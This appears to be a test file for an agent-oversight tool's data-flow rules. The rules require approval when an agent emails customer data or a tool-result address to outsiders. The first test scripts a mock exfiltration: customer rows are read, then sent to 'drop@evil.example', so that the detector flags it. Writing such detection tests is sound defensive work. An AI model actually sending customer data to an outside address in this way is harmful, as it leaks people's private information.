// Data-flow rules: the scripted exfiltration (customer table → outside email) and result provenance.
import { describe, expect, it } from "vitest";
import { openWarden } from "../../helpers.js";
import { alertsOf, intentOf, LABELLED, outcome } from "../helpers.js";

const POLICY = {
  ...LABELLED,
  // Nobody answers in these tests: the asked calls expire after a second.
  approvals: { timeout: "1s" },
  detect: {
    flow: [
      { id: "pii-out", after: { reads: "customer_pii" }, to: { sends: "external" }, action: "ask" },
      { id: "result-recipient", from: { results: "email" }, to: { tools: ["send_email"] }, action: "ask" },
    ],
  },
};

describe("flow rules", () => {
  it("catches read customer table → email an outside address, and links the alert to both calls", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u@corp.example", intent: "report" });
    const rows = [{ id: 1, name: "Ann", email: "ann@customer.example" }];
    await s.run("read_customer", { table: "customers" }, () => rows, { callId: "read-1" });
    const code = await outcome(
      s.run("send_email", { to: "drop@evil.example", body: "see attached" }, () => "sent", {
        callId: "send-1",
      }),
    );
    expect(code).toBe("APPROVAL_EXPIRED");
    expect((await intentOf(warden, "send-1")).decision).toMatchObject({
      effect: "ask",
      ruleId: "detect:flow",
    });
    const alerts = await alertsOf(warden);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.callId).toBe("send-1");
    expect(alerts[0]!.data).toMatchObject({
      detector: "flow",
      action: "ask",
      callIds: ["send-1", "read-1"],
      details: { rule: "pii-out" },
    });
  });

  it("lets an external send through when the session read no labelled data", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u@corp.example", intent: "report" });
    await s.run("read_docs", {}, () => "manual");
    expect(await outcome(s.run("send_email", { to: "x@corp.example" }, () => "sent"))).toBe("ok");
    expect(await alertsOf(warden)).toHaveLength(0);
  });

  it("keeps sessions apart: a read in one session does not taint another", async () => {
    const { warden } = await openWarden(POLICY);
    const a = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "a" });
    const b = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "b" });
    await a.run("read_customer", {}, () => []);
    expect(await outcome(b.run("send_email", { to: "x@corp.example" }, () => "sent"))).toBe("ok");
  });

  it("marks an email taken from a tool result as a recipient that needs approval", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "reply" });
    await s.run("lookup_contact", { q: "bob" }, () => ({ note: "reach Bob at Bob@Client.example today" }), {
      callId: "look-1",
    });
    expect(await outcome(s.run("send_email", { to: "carol@corp.example" }, () => "sent"))).toBe("ok");
    const code = await outcome(
      s.run("send_email", { to: ["bob@client.example"] }, () => "sent", { callId: "send-2" }),
    );
    expect(code).toBe("APPROVAL_EXPIRED");
    const alert = (await alertsOf(warden)).find((a) => a.callId === "send-2");
    expect(alert?.data).toMatchObject({
      detector: "flow",
      callIds: ["send-2", "look-1"],
      details: { rule: "result-recipient", paths: ["$.to[0]"] },
    });
  });

  it("remembers values reported through check() + recordOutcome()", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "reply" });
    const d = await s.check("lookup_contact", {});
    await s.recordOutcome(d.callId, { status: "ok", result: ["eve@client.example"] });
    const next = await s.check("send_email", { to: "eve@client.example" });
    expect(next).toMatchObject({ effect: "ask", ruleId: "detect:flow" });
  });
});
